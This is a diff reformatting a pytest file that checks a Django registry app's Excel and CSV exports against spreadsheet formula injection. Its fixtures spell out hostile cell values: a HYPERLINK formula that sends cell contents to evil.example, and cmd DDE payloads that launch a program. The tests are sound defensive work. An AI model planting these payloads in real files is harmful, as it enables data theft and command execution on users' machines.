@@ -3,6 +3,7 @@
 Each file is opened with openpyxl: no cell may be a formula, the hostile text must be there
 unchanged (with Excel's quote prefix), numbers must stay numbers.
 """
+
 import csv
 import datetime
 import io
@@ -28,7 +29,14 @@ from tests.registry.import_files import household, write_csv
 pytestmark = pytest.mark.django_db
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
-HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    EVIL,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def cells(content: bytes) -> list:
@@ -81,8 +89,10 @@ def test_import_error_report_echoes_hostile_cells_as_text(client, users, tmp_pat
     rows[1]["证件号码"] = "-2+3+cmd|' /C calc'!A0"
     path = write_csv(tmp_path / "evil.csv", rows)
     client.force_login(users["clerk"])
-    response = client.post(reverse("registry:import_upload"),
-                           {"file": SimpleUploadedFile("evil.csv", path.read_bytes(), content_type="text/csv")})
+    response = client.post(
+        reverse("registry:import_upload"),
+        {"file": SimpleUploadedFile("evil.csv", path.read_bytes(), content_type="text/csv")},
+    )
     assert response.status_code == 302
     job = ImportJob.objects.get()
     assert job.error_file
@@ -94,7 +104,10 @@ def test_import_error_report_echoes_hostile_cells_as_text(client, users, tmp_pat
 def test_import_error_report_as_csv_past_excels_rows(monkeypatch):
     monkeypatch.setattr(import_report, "XLSX_MAX_ROWS", 1)
     out = io.BytesIO()
-    errors = [import_report.RowError(2, "姓名", EVIL, "格式不对"), import_report.RowError(3, "收入", "-12.50", "太少")]
+    errors = [
+        import_report.RowError(2, "姓名", EVIL, "格式不对"),
+        import_report.RowError(3, "收入", "-12.50", "太少"),
+    ]
     assert import_report.write_error_report(errors, out) == ".csv"
     rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
     assert rows[1][2] == "'" + EVIL and rows[2][2] == "-12.50"
@@ -107,26 +120,73 @@ def test_import_template_sheets_are_text_only():
 
 
 def test_monitoring_and_demand_reports_write_names_as_text():
-    row = {"township_name": EVIL, "helper": "+1+cmd|' /C calc'!A0", "unit": "@x", "phone": "-1+1", "households": 1,
-           "measures": 2, "measures_done": 1, "measures_overdue": 0, "completion": -50.0, "planned_amount": 1, "actual_amount": 1,
-           "funds_rate": 100.0, "income_increase": 0, "visits": 1, "visited_households": 1, "unvisited_households": 0, "helpers": 1}
+    row = {
+        "township_name": EVIL,
+        "helper": "+1+cmd|' /C calc'!A0",
+        "unit": "@x",
+        "phone": "-1+1",
+        "households": 1,
+        "measures": 2,
+        "measures_done": 1,
+        "measures_overdue": 0,
+        "completion": -50.0,
+        "planned_amount": 1,
+        "actual_amount": 1,
+        "funds_rate": 100.0,
+        "income_increase": 0,
+        "visits": 1,
+        "visited_households": 1,
+        "unvisited_households": 0,
+        "helpers": 1,
+    }
     report = {"rows": [row], "townships": [row], "totals": row, "year": 2025, "month": 6}
-    found = assert_inert(assistance_exports.monitoring_xlsx(report), EVIL, "+1+cmd|' /C calc'!A0", "@x", "-1+1")
+    found = assert_inert(
+        assistance_exports.monitoring_xlsx(report), EVIL, "+1+cmd|' /C calc'!A0", "@x", "-1+1"
+    )
     negative = [c for c in found if c.value == -50.0]
     assert negative and all(c.data_type == "n" for c in negative)  # negative numbers stay numbers
     item = SimpleNamespace(name=EVIL, get_group_display=lambda: "\t=1+1")
-    demand = {"villages": [{"township_name": "镇", "village_name": "村", "village_code": "360722100001", "item": item,
-                            "households": 1, "measures": 1, "planned_amount": 1}], "townships": [], "items": []}
+    demand = {
+        "villages": [
+            {
+                "township_name": "镇",
+                "village_name": "村",
+                "village_code": "360722100001",
+                "item": item,
+                "households": 1,
+                "measures": 1,
+                "planned_amount": 1,
+            }
+        ],
+        "townships": [],
+        "items": [],
+    }
     assert_inert(assistance_exports.demand_xlsx(demand), EVIL, "\t=1+1")
 
 
 def test_funds_spreadsheets_write_names_as_text():
     region = SimpleNamespace(name=EVIL)
-    loan = SimpleNamespace(borrower_name="@SUM(1+9)*cmd|' /C calc'!A0", region=region, bank="+bank", contract_no="-1+2",
-                           amount_fen=100, maturity_on=datetime.date(2026, 1, 1), reminder_sent_on=None, unpaid_fen=-100,
-                           defaulted_on=datetime.date(2026, 1, 1), loss_fen=0, paid_out_fen=0, recovered_fen=0)
-    content = funds_exports.loan_reports_xlsx(SimpleNamespace(name="信丰县"), datetime.date(2025, 12, 1),
-                                              maturing=[loan], overdue=[loan], defaulted=[loan])
+    loan = SimpleNamespace(
+        borrower_name="@SUM(1+9)*cmd|' /C calc'!A0",
+        region=region,
+        bank="+bank",
+        contract_no="-1+2",
+        amount_fen=100,
+        maturity_on=datetime.date(2026, 1, 1),
+        reminder_sent_on=None,
+        unpaid_fen=-100,
+        defaulted_on=datetime.date(2026, 1, 1),
+        loss_fen=0,
+        paid_out_fen=0,
+        recovered_fen=0,
+    )
+    content = funds_exports.loan_reports_xlsx(
+        SimpleNamespace(name="信丰县"),
+        datetime.date(2025, 12, 1),
+        maturing=[loan],
+        overdue=[loan],
+        defaulted=[loan],
+    )
     found = assert_inert(content, EVIL, "@SUM(1+9)*cmd|' /C calc'!A0", "+bank", "-1+2")
     assert any(c.value == -1 and c.data_type == "n" for c in found)
     mismatch = SimpleNamespace(label="金额不符", code="=1+1", name=EVIL, library="1", ledger="2", row=3)
@@ -135,8 +195,13 @@ def test_funds_spreadsheets_write_names_as_text():
 
 
 def test_standard_tables_write_region_names_as_text():
-    table = tables.Table("scale", "表1 测试", ["户数"], rows=[{"code": "360722", "name": EVIL, "cells": [(-3, "/x")]}],
-                         notes=["-注：=1+1"])
+    table = tables.Table(
+        "scale",
+        "表1 测试",
+        ["户数"],
+        rows=[{"code": "360722", "name": EVIL, "cells": [(-3, "/x")]}],
+        notes=["-注：=1+1"],
+    )
     found = assert_inert(tables.to_xlsx([table], heading="@heading"), EVIL, "-注：=1+1", "@heading")
     assert any(c.value == -3 and c.data_type == "n" for c in found)
 
